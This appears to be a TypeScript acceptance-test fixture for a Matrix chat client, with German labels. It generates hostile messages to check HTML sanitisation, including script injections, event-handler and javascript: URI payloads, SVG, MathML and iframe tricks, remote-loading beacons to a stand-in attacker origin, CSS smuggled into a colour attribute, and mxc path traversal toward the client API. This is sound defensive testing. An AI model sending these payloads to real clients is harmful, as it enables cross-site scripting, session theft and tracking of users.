/** One message made to attack whoever shows it. */
export interface HostileMessage {
  /** German: what it tries. */
  readonly what: string;
  readonly content: object;
}

export interface Attacker {
  /** Stands in every address; nobody is there. */
  readonly origin: string;
  /** Function a script calls when it runs, with the number of the message. */
  readonly functionName: string;
  /** Word in the path at which a picture's address, having climbed out of the media, reaches the homeserver. */
  readonly path: string;
}

export function hostileMessages(attacker: Attacker): readonly HostileMessage[] {
  const bodies = [...scripts(attacker), ...documents(attacker), ...remotes(attacker), ...addresses(attacker)];
  const formatted = bodies.map(([what, body], number) => ({ what, content: htmlMessage(body(number)) }));
  return [...formatted, ...plainMessages(attacker, formatted.length)];
}

/** What it tries, and the HTML of the message with that number. */
type HostileBody = readonly [what: string, html: (number: number) => string];

const scripts = ({ origin, functionName: run }: Attacker): readonly HostileBody[] => [
  ['Skript', (n) => `<script>${run}(${n})</script><script src="${origin}/${n}"></script>`],
  ['Ereignis eines Bildes', (n) => `<img src="x" onerror="${run}(${n})"><img src=x oNeRrOr=${run}(${n})>`],
  [
    'Ereignis eines anderen Elements',
    (n) => `<p onpointerover="${run}(${n})">x</p><details open ontoggle="${run}(${n})">x</details>`,
  ],
  ['Formular', (n) => `<form action="${origin}/${n}"><input autofocus onfocus="${run}(${n})"></form>`],
  [
    'Zerbrochenes Markup',
    (n) =>
      `<p title="</p><img src=x onerror=${run}(${n})>">x</p><noscript><p title="</noscript><img src=x onerror=${run}(${n})>">`,
  ],
];

const documents = ({ origin, functionName: run }: Attacker): readonly HostileBody[] => [
  ['SVG mit Skript', (n) => `<svg onload="${run}(${n})"><script>${run}(${n})</script><text>x</text></svg>`],
  [
    'SVG als eingebettetes Bild',
    (n) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}(${n})'/>">`,
  ],
  ['MathML', (n) => `<math><maction actiontype="statusline" xlink:href="javascript:${run}(${n})">x</maction></math>`],
  [
    'Rahmen',
    (n) =>
      `<iframe src="javascript:parent.${run}(${n})"></iframe><iframe srcdoc="<script>parent.${run}(${n})</script>"></iframe>`,
  ],
  ['Objekt', (n) => `<object data="${origin}/${n}"></object><embed src="${origin}/${n}">`],
];

const remotes = ({ origin }: Attacker): readonly HostileBody[] => [
  ['Weiterleitung', (n) => `<meta http-equiv="refresh" content="0;url=${origin}/${n}"><base href="${origin}/">`],
  ['Entferntes Bild', (n) => `<img src="${origin}/${n}"><img srcset="${origin}/${n} 1x">`],
  ['Entfernter Film', (n) => `<video autoplay poster="${origin}/${n}"><source src="${origin}/${n}"></video>`],
  ['Bild im Stil', (n) => `<p style="background:url(${origin}/${n})">x</p><style>@import url(${origin}/${n});</style>`],
  ['Farbe als Stil', (n) => `<span data-mx-color="red;background:url(${origin}/${n})">x</span>`],
];

const addresses = ({ origin, functionName: run, path }: Attacker): readonly HostileBody[] => [
  [
    'Verweis auf ein Skript',
    (n) => `<a href="javascript:${run}(${n})">x</a><a href="&#106;ava&#9;script:${run}(${n})">x</a>`,
  ],
  ['Verweis auf eingebettete Daten', (n) => `<a href="data:text/html,<script>opener.${run}(${n})</script>">x</a>`],
  [
    'Verweis auf einen fremden Raum',
    (n) => `<a href="https://matrix.to/#/%23raum${n}:${hostOf(origin)}">x</a><a href="${origin}/#/room/!${n}:a">x</a>`,
  ],
  ['Bild mit fremder Medienadresse', (n) => `<img src="mxc://a\\@${hostOf(origin)}/${n}">`],
  ['Bild mit aufsteigender Medienadresse', (n) => `<img src="${climbing(path, n)}">`],
];

function plainMessages({ origin, functionName: run, path }: Attacker, from: number): readonly HostileMessage[] {
  const picture = { msgtype: 'm.image', body: 'bild.png', info: { mimetype: 'image/png', w: 20, h: 20 } };
  return [
    { what: 'Adresse im Text', content: { msgtype: 'm.text', body: `javascript:${run}(${from}) ${origin}/${from}` } },
    { what: 'Bildnachricht mit fremder Adresse', content: { ...picture, url: `${origin}/${from + 1}` } },
    { what: 'Bildnachricht mit aufsteigender Medienadresse', content: { ...picture, url: climbing(path, from + 2) } },
  ];
}

const hostOf = (origin: string) => new URL(origin).host;

/** Four steps up lead from a picture's place to where all interfaces begin. */
const climbing = (path: string, number: number) => `mxc://a/../../../../client/v3/${path}${number}`;

const htmlMessage = (html: string) => ({
  msgtype: 'm.text',
  body: 'Künstlicher Inhalt einer Abnahmeprüfung',
  format: 'org.matrix.custom.html',
  formatted_body: html,
});

/** Whether a request asks for the climbing address, and where it leads is outside the media. */
export function climbsOut(url: string, { path }: Pick<Attacker, 'path'>): boolean {
  const { pathname } = new URL(url);
  return pathname.includes(path) && !/^\/_matrix\/(media\/\w+|client\/v1\/media)\//.test(pathname);
}
